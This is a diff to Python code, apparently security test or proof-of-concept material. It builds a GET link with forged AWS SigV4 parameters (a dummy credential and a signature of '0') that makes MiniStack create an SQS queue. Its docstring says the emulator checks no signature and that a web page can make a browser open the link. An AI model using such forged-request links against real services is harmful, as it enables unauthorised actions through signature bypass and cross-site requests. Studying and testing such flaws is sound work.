@@ -146,7 +146,11 @@ def create_function(address: str, name: str, headers: Mapping[str, str]) -> http
 
 
 def create_queue(address: str, name: str, headers: Mapping[str, str]) -> httpx.Response:
-    """With a plain link, as a page can make a browser open it."""
+    return send(address, "GET", forged_link("", name), headers)
+
+
+def forged_link(address: str, queue: str) -> str:
+    """A link that makes a queue: MiniStack verifies no signature of its root."""
     forged = {
         "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
         "X-Amz-Credential": "000000000000/20261126/us-east-1/sqs/aws4_request",
@@ -155,8 +159,7 @@ def create_queue(address: str, name: str, headers: Mapping[str, str]) -> httpx.R
         "X-Amz-SignedHeaders": "host",
         "X-Amz-Signature": "0",
     }
-    query = urlencode({"Action": "CreateQueue", "QueueName": name, **forged})
-    return send(address, "GET", f"/?{query}", headers)
+    return f"{address}/?{urlencode({'Action': 'CreateQueue', 'QueueName': queue, **forged})}"
 
 
 ROLE = "arn:aws:iam::000000000000:role/any"
